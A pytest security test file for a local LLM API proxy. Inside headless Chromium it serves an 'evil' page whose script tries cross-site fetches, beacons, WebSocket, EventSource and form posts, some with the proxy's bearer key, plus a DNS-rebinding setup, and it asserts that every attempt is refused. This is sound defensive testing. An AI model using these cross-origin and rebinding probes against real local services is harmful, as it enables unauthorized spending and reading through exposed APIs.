"""A real browser on somebody else's page tries to use the proxy, by every way that a page has, and gets nowhere."""

import asyncio
import json
import shutil
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from aiohttp import web

from tests.server import wire
from tests.server.conftest import Start, Upstream, channels, stream

pytestmark = [
    pytest.mark.threats,
    pytest.mark.skipif(shutil.which("chromium") is None, reason="chromium is not installed"),
]
PAGE = """<!doctype html><title>evil</title><body><script>
const base = "http://TARGET", key = "KEY";
const body = JSON.stringify({model: "m", max_tokens: 5, messages: [{role: "user", content: "spend"}]});
const json = {"Content-Type": "application/json", "Authorization": "Bearer " + key};
const attempts = {
  "no-cors text": () => fetch(base + "/v1/messages", {method: "POST", mode: "no-cors", body}),
  "cors json": () => fetch(base + "/v1/messages", {method: "POST", headers: json, body}).then(r => r.text()),
  "cors get": () => fetch(base + "/v1/models", {headers: {"Authorization": "Bearer " + key}}).then(r => r.text()),
  "simple get": () => fetch(base + "/v1/models").then(r => r.text()),
  "health": () => fetch(base + "/health").then(r => r.text()),
  "beacon": async () => String(navigator.sendBeacon(base + "/v1/messages", body)),
  "image": () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes("loaded"); i.onerror = no; i.src = base + "/v1/models"; }),
  "script": () => new Promise((yes, no) => { const s = document.createElement("script"); s.onload = () => yes("loaded"); s.onerror = no;
     s.src = base + "/v1/models"; document.body.append(s); }),
  "events": () => new Promise((yes, no) => { const e = new EventSource(base + "/_axonhub/events"); e.onmessage = () => yes("heard"); e.onerror = no; }),
  "socket": () => new Promise((yes, no) => { const s = new WebSocket(base.replace("http", "ws") + "/v1/responses"); s.onopen = () => yes("open"); s.onerror = no; }),
  "form": async () => { const f = document.createElement("form"); f.method = "POST"; f.action = base + "/v1/messages"; f.enctype = "text/plain";
     f.target = "frame"; const w = document.createElement("iframe"); w.name = "frame"; document.body.append(w, f); f.submit(); return "sent"; },
};
(async () => {
  const out = {};
  for (const [name, go] of Object.entries(attempts)) {
    try { out[name] = String(await Promise.race([go(), new Promise((_, no) => setTimeout(() => no("timeout"), 2000))])).slice(0, 200); }
    catch (e) { out[name] = "refused"; }
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
})();
</script>"""  # noqa: E501


class Evil:
    """A web site that serves the page and hears what it achieved."""

    def __init__(self) -> None:
        self.page = ""
        self.port = 0
        self.report: asyncio.Future[dict[str, str]] = asyncio.get_running_loop().create_future()

    async def handle(self, request: web.Request) -> web.StreamResponse:
        if request.method == "POST":
            if not self.report.done():
                self.report.set_result(json.loads(await request.text()))
            return web.Response()
        return web.Response(text=self.page, content_type="text/html")


@pytest.fixture
async def evil() -> AsyncIterator[Evil]:
    """The site, listening."""
    made = Evil()
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", made.handle)
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    made.port = runner.addresses[0][1]
    yield made
    await runner.cleanup()


async def visit(evil: Evil, url: str, profile: Path, *rules: str) -> dict[str, str]:
    """Let Chromium open the page; what the page reports."""
    arguments = [
        "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-sync",
        "--disable-component-update", "--disable-dev-shm-usage", f"--user-data-dir={profile}", *rules,
    ]  # fmt: skip
    log = (profile.parent / "chromium.log").open("wb")
    process = await asyncio.create_subprocess_exec("chromium", *arguments, url, stdout=log, stderr=log, start_new_session=True)
    log.close()
    try:
        async with asyncio.timeout(90):
            return await evil.report
    finally:
        process.kill()
        await process.wait()


async def test_a_page_of_another_site_spends_nothing(start: Start, upstream: Upstream, evil: Evil, tmp_path: Path) -> None:
    """Even one that knows the key: no upstream call, nothing read."""
    upstream.will(stream(wire.A_STREAM))
    hub = await start(channels(("anthropic", upstream.url)))
    evil.page = PAGE.replace("TARGET", hub.url.removeprefix("http://")).replace("KEY", hub.token)
    report = await visit(
        evil, f"http://evil.example:{evil.port}/", tmp_path / "profile", "--host-resolver-rules=MAP evil.example 127.0.0.1"
    )
    opaque = {"no-cors text": "[object Response]", "beacon": "true", "form": "sent"}  # what a page may send but never read
    assert {name: got for name, got in report.items() if got not in ("refused", opaque.get(name))} == {}
    assert set(report) >= {"no-cors text", "cors json", "socket", "form", "events"}
    assert upstream.requests == []


async def test_a_rebound_name_is_no_way_in(start: Start, upstream: Upstream, evil: Evil, tmp_path: Path) -> None:
    """DNS rebinding: a foreign name leads to the proxy, so the browser takes it for the same site. The Host gives it away."""
    upstream.will(stream(wire.A_STREAM))
    hub = await start(channels(("anthropic", upstream.url)))
    assert hub.server.gateway is not None
    target = f"rebind.example:{hub.server.gateway.port}"
    evil.page = PAGE.replace("TARGET", target).replace("KEY", hub.token)
    report = await visit(
        evil, f"http://evil.example:{evil.port}/", tmp_path / "profile",
        "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebind.example 127.0.0.1", "--disable-web-security",
    )  # fmt: skip
    # Without web security the page reads every answer, as it would after rebinding: it reads refusals.
    for name in ("cors json", "cors get", "simple get", "health"):
        assert "refused" in report[name] or "not one that axonhub answers to" in report[name], report
    assert upstream.requests == []
